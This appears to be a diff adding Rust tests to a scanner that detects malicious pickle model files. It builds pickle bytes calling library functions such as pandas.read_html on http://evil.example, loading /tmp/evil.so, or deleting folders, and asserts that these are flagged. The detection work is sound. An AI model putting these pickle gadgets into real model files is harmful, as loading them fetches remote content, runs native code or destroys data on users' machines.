@@ -148,3 +148,43 @@ proptest! {
         let _ = looks_like_artifact(&name, &bytes);
     }
 }
+
+/// Protocol 2: `module.name(text)`.
+fn calls(module: &str, name: &str, text: &str) -> Vec<u8> {
+    let mut bytes = format!("\u{0}c{module}\n{name}\n").into_bytes();
+    bytes.splice(..1, [0x80, 2]);
+    bytes.push(b'X');
+    bytes.extend_from_slice(&u32::try_from(text.len()).unwrap().to_le_bytes());
+    bytes.extend_from_slice(text.as_bytes());
+    bytes.extend_from_slice(b"\x85R.");
+    bytes
+}
+
+#[test]
+fn functions_of_libraries_are_held_and_not_called() {
+    for (module, name, text) in [
+        ("scipy.optimize._nonlin", "_nonlin_wrapper", "x"),
+        ("sklearn.utils._testing", "_delete_folder", "/tmp/x"),
+        ("pandas", "read_html", "http://evil.example"),
+        ("torch.xpu.memory", "XPUPluggableAllocator", "/tmp/evil.so"),
+        ("ultralytics", "YOLO", "http://evil.example/x.pt"),
+        ("sklearn.utils._testing", "TempMemmap", "x"),
+        ("xgboost.testing.data", "get_mq2008", "x"),
+    ] {
+        let report = look("model.pkl", &calls(module, name, text));
+        assert_ne!(report.verdict, Verdict::Clean, "{module}.{name}");
+    }
+    for (module, name, text) in [
+        ("transformers.trainer_utils", "IntervalStrategy", "steps"),
+        ("pandas._libs.tslibs.nattype", "_nat_unpickle", "x"),
+    ] {
+        let report = look("model.pkl", &calls(module, name, text));
+        assert_eq!(report.verdict, Verdict::Clean, "{module}.{name}: {:?}", report.issues);
+    }
+    // Held by data, not called.
+    assert_eq!(look("model.pkl", b"\x80\x02csklearn.metrics\nf1_score\n.").verdict, Verdict::Clean);
+    // Handed to what calls it.
+    let handed =
+        b"\x80\x02cnumpy.random._pickle\n__generator_ctor\nX\x01\x00\x00\x00xcpandas\nread_html\n\x86R.";
+    assert_ne!(look("model.pkl", handed).verdict, Verdict::Clean);
+}
